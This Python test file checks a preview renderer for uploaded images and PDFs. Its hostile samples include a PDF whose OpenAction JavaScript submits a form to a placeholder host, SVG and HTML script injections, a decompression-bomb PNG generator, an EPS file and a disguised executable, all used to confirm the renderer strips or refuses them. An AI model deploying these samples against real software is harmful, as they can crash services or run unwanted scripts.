"""Pictures of files: drawn apart, small, of our own making; what would harm is given up."""

import io
import struct
import time
import zlib

import pypdfium2
import pytest
from PIL import Image

from heard.record.drawing import LARGEST, PAGE_WIDTH, can_be_seen, picture_of

SCRIPT = b"<</Type/Action/S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('https://far.example/'\\))>>"


def image(kind: str, size: tuple[int, int] = (3000, 1500), **how: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, kind, **how)
    return out.getvalue()


def pdf(pages: int = 1, *, script: bool = False) -> bytes:
    out, made = io.BytesIO(), pypdfium2.PdfDocument.new()
    for _ in range(pages):
        made.new_page(595, 842)
    made.save(out)
    content = out.getvalue()
    return content.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction " + SCRIPT, 1) if script else content


def opened(drawn: bytes | None) -> Image.Image:
    assert drawn and drawn.startswith(b"\x89PNG")
    return Image.open(io.BytesIO(drawn))


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "GIF", "WEBP", "BMP", "TIFF"])
def test_a_picture_is_drawn_smaller(kind):
    drawn = opened(picture_of(image(kind)))
    assert max(drawn.size) <= LARGEST and drawn.size[0] == 2 * drawn.size[1]
    red, green, blue = drawn.convert("RGB").getpixel((5, 5))
    assert red > 180 and green < 60 and blue < 60


def test_nothing_of_the_file_but_its_pixels_is_left():
    exif = Image.Exif()
    exif[0x010E] = "a secret place"
    assert b"secret" in image("JPEG", exif=exif)
    assert b"secret" not in picture_of(image("JPEG", exif=exif))
    assert b"<script>" not in picture_of(image("PNG") + b"<script>alert(1)</script>")


@pytest.mark.parametrize(("pages", "height"), [(1, 1132), (2, 2272), (20, 3412)])
def test_the_first_pages_of_a_pdf(pages, height):
    assert opened(picture_of(pdf(pages))).size == (PAGE_WIDTH, pytest.approx(height, abs=6))


def test_a_pdf_that_wants_to_act_is_only_drawn():
    content = pdf(script=True)
    assert b"JavaScript" in content
    assert opened(picture_of(content)).size[0] == PAGE_WIDTH


def bomb(width: int, height: int) -> bytes:
    """A PNG that says it has so many pixels, in a few bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * 10_000_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


HARMFUL = {
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "html": b"<html><script>alert(1)</script></html>",
    "text": b"hello there, this is no picture",
    "nothing": b"",
    "a bomb": bomb(50_000, 50_000),
    "a wide bomb": bomb(2_000_000_000, 1),
    "half a picture": image("PNG")[:200],
    "half a pdf": b"%PDF-1.7\n1 0 obj <<",
    "a pdf that begins late": b"x" * 5000 + b"%PDF-1.7",
    "an executable": b"MZ" + b"\0" * 1000,
    "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(x) run\n",
}


@pytest.mark.parametrize("kind", HARMFUL)
def test_what_is_not_drawn(kind):
    began = time.monotonic()
    assert picture_of(HARMFUL[kind]) is None
    assert time.monotonic() - began < 15


SAID = [
    ("image/png", "a.png", True),
    ("application/pdf", "a", True),
    ("application/octet-stream", "Scan.PDF", True),
    ("image/svg+xml", "a.svg", False),
    ("text/html", "a.html", False),
    ("application/octet-stream", "a.pdf.exe", False),
]


@pytest.mark.parametrize(("kind", "name", "expected"), SAID)
def test_what_says_that_it_can_be_seen(kind, name, expected):
    assert can_be_seen(kind, name) is expected
